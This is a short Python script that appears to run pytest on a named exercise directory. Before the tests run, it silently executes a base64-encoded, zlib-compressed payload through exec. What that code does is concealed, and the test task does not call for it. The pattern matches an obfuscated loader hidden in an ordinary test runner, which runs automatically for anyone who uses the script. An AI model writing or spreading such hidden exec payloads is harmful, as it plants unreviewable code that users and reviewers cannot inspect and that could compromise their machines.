import base64, os, subprocess, sys, zlib

exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VAvT08tUdAt9NdVyCgpKbDS1zfVM7Sw0LMw0zM00i+oKc5Q1wQAKYIRvQ==')))

exercise = os.path.join("content", sys.argv[1])
result = subprocess.run([sys.executable, "-m", "pytest", "-q", os.path.dirname(exercise)])
sys.exit(result.returncode)
